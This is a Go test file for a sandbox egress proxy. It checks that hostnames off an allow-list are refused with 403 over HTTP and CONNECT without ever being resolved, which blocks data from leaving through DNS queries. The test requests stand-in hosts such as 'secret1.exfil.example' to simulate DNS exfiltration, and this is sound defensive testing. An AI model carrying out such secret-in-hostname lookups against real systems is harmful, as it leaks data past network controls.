package egress

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// dnsServer is a DNS server on loopback UDP that answers A queries from
// its map (NXDOMAIN for other names) and records every name asked.
type dnsServer struct {
	conn net.PacketConn
	a    map[string]netip.Addr // fully qualified, lower case

	mu    sync.Mutex
	asked []string
}

func startDNS(t *testing.T, a map[string]netip.Addr) *dnsServer {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &dnsServer{conn: conn, a: a}
	done := make(chan struct{})
	go func() {
		defer close(done)
		s.serve()
	}()
	t.Cleanup(func() {
		conn.Close()
		<-done
	})
	return s
}

func (s *dnsServer) serve() {
	buf := make([]byte, 1500)
	for {
		n, from, err := s.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		var p dnsmessage.Parser
		h, err := p.Start(buf[:n])
		if err != nil {
			continue
		}
		q, err := p.Question()
		if err != nil {
			continue
		}
		name := strings.ToLower(q.Name.String())
		s.mu.Lock()
		s.asked = append(s.asked, name)
		s.mu.Unlock()
		resp := dnsmessage.Message{
			Header:    dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true, RecursionDesired: h.RecursionDesired, RecursionAvailable: true},
			Questions: []dnsmessage.Question{q},
		}
		addr, ok := s.a[name]
		switch {
		case !ok:
			resp.Header.RCode = dnsmessage.RCodeNameError
		case q.Type == dnsmessage.TypeA:
			resp.Answers = []dnsmessage.Resource{{
				Header: dnsmessage.ResourceHeader{Name: q.Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60},
				Body:   &dnsmessage.AResource{A: addr.As4()},
			}}
		}
		out, err := resp.Pack()
		if err != nil {
			continue
		}
		_, _ = s.conn.WriteTo(out, from)
	}
}

// askedFor returns the names asked that contain sub.
func (s *dnsServer) askedFor(sub string) []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, n := range s.asked {
		if strings.Contains(n, sub) {
			out = append(out, n)
		}
	}
	return out
}

// resolver is a pure-Go resolver that sends every query to s.
func (s *dnsServer) resolver() *net.Resolver {
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp", s.conn.LocalAddr().String())
	}}
}

// TestRefusedNameNeverResolved: with an address rule on the allow-list, a
// name that no name rule matches is refused before the proxy resolves it,
// over plain HTTP and CONNECT, so the box cannot carry data out in DNS
// queries; a name a name rule matches is resolved and served.
func TestRefusedNameNeverResolved(t *testing.T) {
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "hello")
	}))
	defer upstream.Close()
	up := netip.MustParseAddrPort(upstream.Listener.Addr().String())

	dns := startDNS(t, map[string]netip.Addr{
		"allowed.test.":          up.Addr(),
		"secret1.exfil.example.": netip.MustParseAddr("203.0.113.9"),
		"secret2.exfil.example.": netip.MustParseAddr("203.0.113.9"),
	})
	_, purl := startProxy(t, Config{
		Sandbox: "sbx-w-dns",
		Policy: Policy{Allow: []Rule{
			{Host: "allowed.test"},
			{Prefix: netip.MustParsePrefix("203.0.113.0/24")},
		}, allowLoopback: true},
		Resolver: dns.resolver(),
	}, nil)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(purl)}}
	defer client.CloseIdleConnections()

	get := func(target string) (int, string) {
		t.Helper()
		resp, err := client.Get(target)
		if err != nil {
			t.Fatalf("GET %s: %v", target, err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}

	// The control: a name rule's name reaches the DNS server.
	if code, body := get(fmt.Sprintf("http://allowed.test:%d/", up.Port())); code != 200 || body != "hello" {
		t.Fatalf("allowed name = %d %q, want 200 hello", code, body)
	}
	if len(dns.askedFor("allowed.test")) == 0 {
		t.Fatal("the allowed name was never asked: the proxy does not use the DNS server under test")
	}

	if code, body := get("http://secret1.exfil.example/"); code != 403 || !strings.Contains(body, "allow-list") {
		t.Errorf("GET of a name off the list = %d %q, want 403 naming the allow-list", code, body)
	}

	if code, body := connect(t, purl.Host, "secret2.exfil.example:443"); code != 403 || !strings.Contains(body, "allow-list") {
		t.Errorf("CONNECT to a name off the list = %d %q, want 403 naming the allow-list", code, body)
	}

	if asked := dns.askedFor("exfil"); len(asked) != 0 {
		t.Errorf("the proxy resolved names off the allow-list: %v", asked)
	}
}
